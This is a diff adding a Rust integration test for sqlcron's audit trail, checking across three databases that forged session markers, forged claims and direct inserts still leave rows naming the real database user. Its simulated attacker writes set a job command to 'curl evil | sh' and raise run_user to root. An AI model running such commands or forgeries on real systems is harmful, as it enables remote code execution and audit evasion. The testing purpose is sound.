@@ -1,0 +1,216 @@
+//! The audit trail against the writer it guards against (issue 49, finding 4): a writer who
+//! sets the session settings sqlcron itself sets (`sqlcron.marker`, `sqlcron.claim`;
+//! `@sqlcron_marker`, `@sqlcron_claim`) still leaves one row per change, and every row names
+//! the database user that wrote it, whatever the writer put in the row.
+
+use sqlcron::model::actor::Actor;
+use sqlcron::store::{AuditRow, Dialect, Store};
+
+use crate::util::{TestDb, db_url};
+
+fn alice() -> Actor {
+    Actor {
+        who: "alice".into(),
+        host: Some("ops-1".into()),
+        pid: Some(42),
+    }
+}
+
+/// Audit rows newer than `after`, in the order written.
+async fn rows_after(store: &Store, after: i64) -> Vec<AuditRow> {
+    let mut log = store.audit_log(None, 1000).await.unwrap();
+    log.sort_by_key(|r| r.id);
+    log.into_iter().filter(|r| r.id > after).collect()
+}
+
+/// The statements a writer holding the editor's credential runs to pass its changes off as
+/// sqlcron's, as docs/security.md described them before: each sets the session setting, then
+/// writes rows whose `changed_by` equals it. One connection, so that a session setting holds.
+fn forged_marker_writes(dialect: Dialect) -> Vec<&'static str> {
+    match dialect {
+        Dialect::Postgres => vec![
+            "DO $$ BEGIN PERFORM set_config('sqlcron.marker', 'f1', true); \
+             UPDATE cron_table SET command = 'curl evil | sh', changed_by = 'f1' WHERE name = 'a'; END $$",
+            "DO $$ BEGIN PERFORM set_config('sqlcron.marker', 'f2', true); \
+             INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('x', '@daily', 'id', 'f2'); END $$",
+            "DO $$ BEGIN PERFORM set_config('sqlcron.marker', 'removing f3', true); \
+             UPDATE cron_table SET changed_by = 'removing f3' WHERE name = 'b'; \
+             DELETE FROM cron_table WHERE name = 'b'; END $$",
+        ],
+        Dialect::Mysql => vec![
+            "SET @sqlcron_marker = 'f'",
+            "UPDATE cron_table SET command = 'curl evil | sh', changed_by = 'f' WHERE name = 'a'",
+            "INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('x', '@daily', 'id', 'f')",
+            "UPDATE cron_table SET changed_by = 'f' WHERE name = 'b'",
+            "DELETE FROM cron_table WHERE name = 'b'",
+        ],
+        Dialect::Sqlite => vec![
+            "UPDATE cron_table SET command = 'curl evil | sh', changed_by = 'f' WHERE name = 'a'",
+            "INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('x', '@daily', 'id', 'f')",
+            "UPDATE cron_table SET changed_by = 'removing f' WHERE name = 'b'",
+            "DELETE FROM cron_table WHERE name = 'b'",
+        ],
+    }
+}
+
+/// The same writer, claiming its change is an operator's `pause`: the row is written, with
+/// the database user, and the columns the database saw change.
+fn forged_claim_write(dialect: Dialect) -> Vec<&'static str> {
+    match dialect {
+        Dialect::Postgres => vec![
+            r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"c1","action":"pause","who":"alice","detail":"nothing"}', true);
+               UPDATE cron_table SET run_user = 'root', changed_by = 'c1' WHERE name = 'a'; END $$"#,
+        ],
+        Dialect::Mysql => vec![
+            r#"SET @sqlcron_claim = '{"marker":"c1","action":"pause","who":"alice","detail":"nothing"}'"#,
+            "UPDATE cron_table SET run_user = 'root', changed_by = 'c1' WHERE name = 'a'",
+        ],
+        Dialect::Sqlite => vec![],
+    }
+}
+
+async fn a_session_setting_skips_no_audit_row(dialect: Dialect) {
+    let db = TestDb::new(dialect).await;
+    let store = db.store().await;
+    let job = |name: &str| sqlcron::model::job::JobSpec {
+        name: name.into(),
+        schedule: "@daily".into(),
+        command: Some("true".into()),
+        enabled: true,
+        ..Default::default()
+    };
+    store
+        .apply_toml(&[job("a"), job("b")], false, &alice())
+        .await
+        .unwrap();
+    let first = rows_after(&store, 0).await;
+    assert_eq!(
+        first
+            .iter()
+            .map(|r| (r.action.as_str(), r.who.as_str()))
+            .collect::<Vec<_>>(),
+        vec![("apply_create", "alice"), ("apply_create", "alice")],
+        "one row per change made through sqlcron: {first:?}"
+    );
+    let before = first.last().unwrap().id;
+
+    // One connection: a session setting holds on it.
+    let writer = Store::connect(&db_url(&db.url), 1).unwrap();
+    for sql in forged_marker_writes(dialect) {
+        writer.execute_raw(sql).await.unwrap();
+    }
+    let seen = rows_after(&store, before).await;
+    let pairs: Vec<(&str, &str)> = seen
+        .iter()
+        .map(|r| (r.action.as_str(), r.job.as_deref().unwrap_or("")))
+        .collect();
+    if dialect == Dialect::Sqlite {
+        // Documented limit: a writer of the file can do anything, triggers included; a
+        // changed `changed_by` passes the change off as sqlcron's (docs/security.md).
+        assert!(pairs.is_empty(), "{seen:?}");
+        writer.close().await;
+        store.close().await;
+        return;
+    }
+    assert_eq!(
+        pairs,
+        vec![
+            ("sql_update", "a"),
+            ("sql_insert", "x"),
+            ("sql_delete", "b")
+        ],
+        "every change of the writer that set the marker is recorded: {seen:?}"
+    );
+    assert!(
+        seen[0]
+            .detail
+            .as_deref()
+            .unwrap_or("")
+            .starts_with("changed command"),
+        "{:?}",
+        seen[0]
+    );
+    let user = match dialect {
+        Dialect::Postgres => "postgres",
+        _ => "root@",
+    };
+    for r in &seen {
+        assert_eq!(r.who, "sql", "{r:?}");
+        assert!(
+            r.db_user.as_deref().unwrap_or("").starts_with(user),
+            "the database user is on the row: {r:?}"
+        );
+    }
+
+    // A claim forged in the session: the row is written all the same; it reads as the writer
+    // said, and says what the database saw and who the database says wrote it.
+    let before = seen.last().unwrap().id;
+    for sql in forged_claim_write(dialect) {
+        writer.execute_raw(sql).await.unwrap();
+    }
+    let claimed = rows_after(&store, before).await;
+    assert_eq!(claimed.len(), 1, "{claimed:?}");
+    let c = &claimed[0];
+    assert_eq!((c.action.as_str(), c.who.as_str()), ("pause", "alice"));
+    assert_eq!(
+        c.detail.as_deref(),
+        Some("nothing (the database saw: changed run_user)"),
+        "{c:?}"
+    );
+    assert!(
+        c.db_user.as_deref().unwrap_or("").starts_with(user),
+        "{c:?}"
+    );
+
+    // A row inserted into cron_audit directly names its real writer too, whatever it says.
+    writer
+        .execute_raw(
+            "INSERT INTO cron_audit (at, action, job, who, detail, db_user) \
+             VALUES (1, 'pause', 'a', 'alice', NULL, 'alice@ops-1')",
+        )
+        .await
+        .unwrap();
+    let direct = rows_after(&store, c.id).await;
+    assert_eq!(direct.len(), 1, "{direct:?}");
+    assert!(
+        direct[0].db_user.as_deref().unwrap_or("").starts_with(user),
+        "{direct:?}"
+    );
+    writer.close().await;
+
+    // sqlcron's own changes are still one row each, with the operator and the database user.
+    let before = direct[0].id;
+    assert!(store.set_enabled("a", false, &alice()).await.unwrap());
+    assert!(store.set_enabled("a", false, &alice()).await.unwrap());
+    store
+        .apply_toml(&[job("a")], false, &alice())
+        .await
+        .unwrap();
+    let own = rows_after(&store, before).await;
+    let pairs: Vec<(&str, &str, Option<&str>)> = own
+        .iter()
+        .map(|r| (r.action.as_str(), r.who.as_str(), r.detail.as_deref()))
+        .collect();
+    assert_eq!(
+        pairs,
+        vec![
+            ("pause", "alice", Some("changed enabled")),
+            // A pause of a paused job changes nothing a trigger records: sqlcron writes it.
+            ("pause", "alice", None),
+            (
+                "apply_restore",
+                "alice",
+                Some("restored command,run_user to the TOML definition (changed outside the file)")
+            ),
+        ],
+        "{own:?}"
+    );
+    assert!(
+        own.iter()
+            .all(|r| r.db_user.as_deref().unwrap_or("").starts_with(user)),
+        "{own:?}"
+    );
+    store.close().await;
+}
+
+for_each_dialect!(a_session_setting_skips_no_audit_row);
